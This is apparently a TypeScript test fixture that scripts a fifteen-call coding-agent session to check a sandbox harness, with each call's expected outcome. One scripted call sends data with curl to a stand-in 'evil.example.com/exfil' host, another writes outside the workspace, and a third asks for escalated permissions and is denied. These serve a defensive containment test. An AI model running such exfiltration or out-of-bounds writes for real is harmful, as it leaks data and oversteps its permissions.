/**
 * The scripted session: 15 tool calls of every shape, each with what must come of it. `exitCode` is
 * how the command truly ends; a call without one runs no command.
 */
import type { Item } from './model/responses.ts';

export interface Scripted {
  readonly id: string;
  readonly tool: string;
  /** The shell command, as the agent is to run it. */
  readonly command?: string;
  readonly exitCode?: number;
  readonly outcome: 'success' | 'failure' | 'denied';
  /** Files below the workspace that the call creates, changes or deletes. */
  readonly files?: readonly string[];
  /** Programs that it runs, by name, besides the shell. */
  readonly programs?: readonly string[];
}

export interface Places {
  /** A file outside the workspace. */
  readonly outside: string;
  /** Base URL of a server that answers. */
  readonly target: string;
}

const PATCH = `*** Begin Patch
*** Add File: notes/todo.md
+# todo
+- rotate keys
*** Update File: app.py
@@
 def add(a, b):
-    return a - b
+    return a + b
*** Delete File: old.txt
*** End Patch`;

const shell = (id: string, command: string, more: object = {}): Item => ({
  type: 'function_call',
  name: 'exec_command',
  call_id: id,
  arguments: JSON.stringify({ cmd: command, ...more }),
});

const other = (id: string, name: string, args: object): Item => ({
  type: 'function_call',
  name,
  call_id: id,
  arguments: JSON.stringify(args),
});

export const FINAL = 'All done: add() fixed, todo recorded, connectivity checked.';
export const PROMPT = 'Fix add() in app.py, record a todo, then check connectivity. Ω';

export interface Step {
  readonly items: readonly Item[];
  readonly calls: readonly Scripted[];
}

/** A shell command. */
export function run(
  id: string,
  command: string,
  exitCode: number,
  more: Omit<Partial<Scripted>, 'id'> = {},
): Step {
  const outcome = exitCode === 0 ? 'success' : 'failure';
  const call = { id, tool: 'exec_command', command, exitCode, outcome, ...more } as const;
  return { items: [shell(id, command)], calls: [call] };
}

/** Several steps as one: their calls run at the same time. */
export const together = (...steps: readonly Step[]): Step => ({
  items: steps.flatMap(({ items }) => items),
  calls: steps.flatMap(({ calls }) => calls),
});

/** The steps of the model, and the calls that they hold. `network` is whether the sandbox has one. */
export function scriptOf({ outside, target }: Places): readonly Step[] {
  const escalated = `touch ${outside}.escalated`;
  return [
    {
      items: [
        { type: 'reasoning', text: 'First I list the repository.' },
        { type: 'message', text: 'I will look around first.', phase: 'commentary' },
        ...run('call_01_ls', 'echo hello && ls -la', 0).items,
      ],
      calls: run('call_01_ls', 'echo hello && ls -la', 0, { programs: ['ls'] }).calls,
    },
    run('call_02_env', 'env | sort | head -n 3', 0, { programs: ['env', 'sort', 'head'] }),
    run('call_03_exit3', 'node -e "console.error(1); process.exit(3)"', 3, { programs: ['node'] }),
    run('call_04_big', 'seq 1 20000', 0, { programs: ['seq'] }),
    {
      items: [
        { type: 'custom_tool_call', name: 'apply_patch', call_id: 'call_05_patch', input: PATCH },
      ],
      calls: [
        {
          id: 'call_05_patch',
          tool: 'apply_patch',
          outcome: 'success',
          files: ['notes/todo.md', 'app.py', 'old.txt'],
        },
      ],
    },
    run('call_06_shellwrite', 'echo by-shell > via_shell.txt && cat via_shell.txt', 0, {
      files: ['via_shell.txt'],
      programs: ['cat'],
    }),
    // The sandbox has a network namespace of its own: the port is not there, nor is any resolver.
    run('call_07_curl', `curl -sS -m 5 ${target}/ping`, 7, { programs: ['curl'] }),
    run('call_08_curl_denied', 'curl -sS -m 5 -d s=1 http://evil.example.com/exfil', 6, {
      programs: ['curl'],
    }),
    run('call_09_outside', `echo pwned > ${outside}`, 1),
    together(
      run('call_10_parallel', 'echo parallel-A; sleep 0.3', 0, { programs: ['sleep'] }),
      run('call_11_parallel', 'echo parallel-B; sleep 0.3', 0, { programs: ['sleep'] }),
    ),
    {
      items: [
        shell('call_12_escalate', escalated, {
          sandbox_permissions: 'require_escalated',
          justification: 'May I write outside the workspace?',
        }),
      ],
      calls: [
        { id: 'call_12_escalate', tool: 'exec_command', command: escalated, outcome: 'denied' },
      ],
    },
    run('call_13_rename', 'mkdir -p d && mv via_shell.txt d/moved.txt', 0, {
      files: ['d/moved.txt'],
      programs: ['mkdir', 'mv'],
    }),
    {
      items: [other('call_14_plan', 'update_plan', { plan: [] })],
      calls: [{ id: 'call_14_plan', tool: 'update_plan', outcome: 'failure' }],
    },
    {
      items: [other('call_15_unknown', 'no_such_tool', { a: 1 })],
      calls: [{ id: 'call_15_unknown', tool: 'no_such_tool', outcome: 'failure' }],
    },
    { items: [{ type: 'message', text: FINAL }], calls: [] },
  ];
}
